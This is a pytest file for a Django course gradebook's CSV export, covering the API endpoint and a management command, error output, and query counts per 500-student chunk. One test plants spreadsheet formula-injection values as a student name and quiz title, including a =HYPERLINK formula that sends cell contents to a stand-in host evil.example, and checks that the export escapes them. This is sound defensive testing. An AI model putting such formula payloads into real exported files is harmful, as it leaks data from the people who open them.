"""The gradebook as CSV: `?format=csv` (or Accept: text/csv) and `manage.py export_gradebook`
write the same bytes; cells someone typed never run as spreadsheet formulas; the export costs the
same queries per 500-student chunk whatever the number of items."""

from datetime import timedelta
from io import StringIO

import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from accounts.models import Role, User
from courses.models import Enrollment
from quizzes.models import Attempt

from .helpers import assignment, course_for_grading, grade, quiz, section, student, submit, take

pytestmark = pytest.mark.django_db


def csv_url(course) -> str:
    return f"/api/v1/courses/{course.pk}/gradebook/?format=csv"


def command_output(*args) -> str:
    out = StringIO()
    call_command("export_gradebook", *args, stdout=out)
    return out.getvalue()


def expected_csv(graded) -> str:
    """The fixture course's figures (worked out in test_figures.py) as the file has them: columns
    named by title, id and points (quoted: they hold commas), two decimals, empty cells for no
    score, yes/no for passed, CRLF line ends."""
    q1, q2 = graded.quizzes["q1"].pk, graded.quizzes["q2"].pk
    a1, a2 = graded.assignments["a1"].pk, graded.assignments["a2"].pk
    ada, grace, charles = (graded.students[name].pk for name in ("ada", "grace", "charles"))
    return (
        f'student_id,last_name,first_name,"Basics (quiz-{q1}, 10 pts)","Essay (assignment-{a1}, 50 pts)",'
        f'"Review (quiz-{q2}, 4 pts)","Project (assignment-{a2}, 20 pts)",'
        "quizzes_percent,assignments_percent,percent,letter,passed\r\n"
        f"{charles},Babbage,Charles,,,,,,,,,\r\n"
        f"{grace},Hopper,Grace,5.00,,,12.00,50.00,60.00,56.00,C,no\r\n"
        f"{ada},Lovelace,Ada,8.00,36.00,1.00,15.00,64.29,72.86,69.43,B,yes\r\n"
    )


# --- the file -------------------------------------------------------------------------------------
def test_the_csv_has_the_hand_computed_figures(clients, graded):
    response = clients["instructor"].get(csv_url(graded.course))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="gradebook-grading-101.csv"'
    assert response.content.decode("utf-8") == expected_csv(graded)


def test_every_student_is_in_the_file_whatever_the_page_size(clients, graded):
    response = clients["admin"].get(csv_url(graded.course) + "&page_size=1&page=2")
    assert response.status_code == 200
    assert response.content.decode() == expected_csv(graded)


def test_accept_text_csv_gives_the_same_file(clients, graded):
    response = clients["instructor"].get(f"/api/v1/courses/{graded.course.pk}/gradebook/", HTTP_ACCEPT="text/csv")
    assert response.status_code == 200
    assert response.content.decode() == expected_csv(graded)


def test_the_csv_matches_the_json(clients, graded):
    body = clients["instructor"].get(f"/api/v1/courses/{graded.course.pk}/gradebook/").json()
    lines = clients["instructor"].get(csv_url(graded.course)).content.decode().splitlines()[1:]
    for row, line in zip(body["rows"], lines, strict=True):
        cells = line.split(",")
        assert cells[0] == str(row["student"]["id"])
        numbers = [None if cell == "" else float(cell) for cell in cells[3:-2]]
        assert numbers == [
            *row["scores"].values(),
            row["categories"]["quizzes"],
            row["categories"]["assignments"],
            row["percent"],
        ]
        assert cells[-2] == (row["letter"] or "")
        assert cells[-1] == {True: "yes", False: "no", None: ""}[row["passed"]]


def test_an_error_comes_as_csv_too(clients, graded):
    response = clients["other_instructor"].get(csv_url(graded.course))
    assert response.status_code == 403
    assert response.content.decode() == (
        "field,message\r\ndetail,Only the course's instructor or an admin can see or change its grading.\r\n"
    )


def test_an_empty_course_is_a_header(clients, instructor):
    course = course_for_grading(instructor, slug="empty-course")
    response = clients["instructor"].get(csv_url(course))
    assert response.content.decode() == (
        "student_id,last_name,first_name,quizzes_percent,assignments_percent,percent,letter,passed\r\n"
    )
    assert response["Content-Disposition"] == 'attachment; filename="gradebook-empty-course.csv"'


def test_typed_text_never_runs_as_a_formula(clients, instructor):
    course = course_for_grading(instructor)
    part = section(course, 1)
    tricky = quiz(course, title="=1+1", points=[1], section=part)
    mallory = student('=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(A1:A9)", course)
    student("-2+3", "+44 20", course)
    take(mallory, tricky, right=[1])

    text = clients["instructor"].get(csv_url(course)).content.decode()

    header, plus_row, mallory_row = text.splitlines()  # by last name: '+44 20' sorts before '@SUM'
    assert f'"\'=1+1 (quiz-{tricky.pk}, 1 pts)"' in header
    assert (
        mallory_row
        == f'{mallory.pk},\'@SUM(A1:A9),"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",1.00,100.00,,100.00,A,yes'
    )
    assert ",'+44 20,'-2+3," in plus_row
    assert command_output(str(course.pk)) == text


# --- the command ------------------------------------------------------------------------------------
def test_the_command_writes_the_same_bytes_by_id_and_by_slug(clients, graded):
    served = clients["instructor"].get(csv_url(graded.course)).content.decode("utf-8")
    assert command_output(str(graded.course.pk)) == served
    assert command_output("grading-101") == served


def test_the_command_writes_a_file(clients, graded, tmp_path):
    target = tmp_path / "book.csv"
    out = command_output("grading-101", "--output", str(target))
    assert target.read_bytes() == clients["instructor"].get(csv_url(graded.course)).content
    assert out == f"Wrote 3 student row(s) of Grading 101 to {target}.\n"

    short = tmp_path / "short.csv"
    call_command("export_gradebook", str(graded.course.pk), "-o", str(short), stdout=StringIO())
    assert short.read_bytes() == target.read_bytes()


@pytest.mark.parametrize("course", ["no-such-course", "999999", "99999999999999999999999", "", "Grading-101"])
def test_an_unknown_course_is_a_command_error(graded, course):
    with pytest.raises(CommandError) as error:
        command_output(course)
    assert str(error.value) == f"No course with id or slug {course!r}."


def test_a_file_that_cannot_be_written_is_a_command_error(graded, tmp_path):
    with pytest.raises(CommandError) as error:
        command_output("grading-101", "--output", str(tmp_path / "missing" / "book.csv"))
    assert str(error.value).startswith(f"Cannot write {tmp_path / 'missing' / 'book.csv'}:")


def test_the_command_needs_a_course():
    with pytest.raises(CommandError):
        call_command("export_gradebook", stdout=StringIO(), stderr=StringIO())


def test_a_course_whose_slug_is_a_number_is_found_by_its_slug(instructor):
    course = course_for_grading(instructor, title="987654321", slug="987654321")
    assert command_output("987654321").startswith("student_id,")
    assert course.pk != 987654321


def test_a_superscript_digit_is_a_command_error_not_a_traceback(graded):
    with pytest.raises(CommandError):
        command_output("²")


# --- queries ----------------------------------------------------------------------------------------
T0 = timezone.now() - timedelta(days=1)


def _students(course, count: int, *, last_name: str = "Bulk") -> list[User]:
    """`count` enrolled students (last names `<last_name> 0000`, ...), inserted in bulk: test data
    for the query counts, where hundreds of rows through the services would take long."""
    start = User.objects.count()
    User.objects.bulk_create(
        User(
            email=f"bulk{start + n}@example.com", first_name="Pat", last_name=f"{last_name} {n:04d}", role=Role.STUDENT
        )
        for n in range(count)
    )
    users = list(User.objects.filter(last_name__startswith=f"{last_name} ").order_by("last_name"))
    Enrollment.objects.bulk_create(Enrollment(student=user, course=course) for user in users)
    return users


def _course(instructor, *, quizzes: int, assignments: int):
    course = course_for_grading(instructor)
    part = section(course, 1)
    made = [quiz(course, points=[1], section=part) for _ in range(quizzes)]
    works = [assignment(part, points=10) for _ in range(assignments)]
    return course, made, works


def _queries(client, path: str) -> tuple[int, bytes]:
    with CaptureQueriesContext(connection) as captured:
        response = client.get(path)
    assert response.status_code == 200, response.content
    return len(captured), response.content


# The file (the user's row comes from the cache): the course, the scheme, the quizzes, the assignments;
# then per chunk of 500 students: the chunk of enrollments, the counted attempts, the grades; and the
# empty chunk that ends it.
CSV_QUERIES = 4 + 3 + 1


def test_the_csv_costs_the_same_queries_whatever_the_items(clients, instructor, django_assert_num_queries):
    few, few_quizzes, few_works = _course(instructor, quizzes=1, assignments=1)
    many, many_quizzes, many_works = _course(instructor, quizzes=10, assignments=10)
    for course, quizzes, works in ((few, few_quizzes, few_works), (many, many_quizzes, many_works)):
        people = [student("Ada", f"Student {n}", course) for n in range(3)]
        take(people[0], quizzes[0], right=[1])
        grade(instructor, submit(people[1], works[-1]), 4)
    client = clients["instructor"]
    client.get(csv_url(few))

    with django_assert_num_queries(CSV_QUERIES):
        body = client.get(csv_url(few)).content.decode()
    assert body.count("\r\n") == 4
    with django_assert_num_queries(CSV_QUERIES):
        body = client.get(csv_url(many)).content.decode()
    assert body.count("\r\n") == 4
    assert body.splitlines()[0].count("pts)") == 20


def test_the_csv_costs_three_queries_per_500_students(clients, instructor):
    course, (made,), (work,) = _course(instructor, quizzes=1, assignments=1)
    client = clients["instructor"]
    people = _students(course, 500)
    Attempt.objects.create(
        quiz=made, student=people[-1], number=1, started_at=T0, submitted_at=T0, score=1, max_score=1, percent=100
    )
    client.get(csv_url(course))
    one_chunk, content = _queries(client, csv_url(course))
    assert one_chunk == CSV_QUERIES
    assert content.count(b"\r\n") == 501
    assert content.decode().splitlines()[-1] == f"{people[-1].pk},Bulk 0499,Pat,1.00,,100.00,,100.00,A,yes"

    (extra,) = _students(course, 1, last_name="Zed")  # sorts last: the 501st student, a second chunk
    grade(instructor, submit(extra, work), 10)
    two_chunks, content = _queries(client, csv_url(course))
    assert two_chunks == CSV_QUERIES + 3
    lines = content.decode().splitlines()
    assert len(lines) == 502
    assert lines[-2] == f"{people[-1].pk},Bulk 0499,Pat,1.00,,100.00,,100.00,A,yes"
    assert lines[-1] == f"{extra.pk},Zed 0000,Pat,,10.00,,100.00,100.00,A,yes"
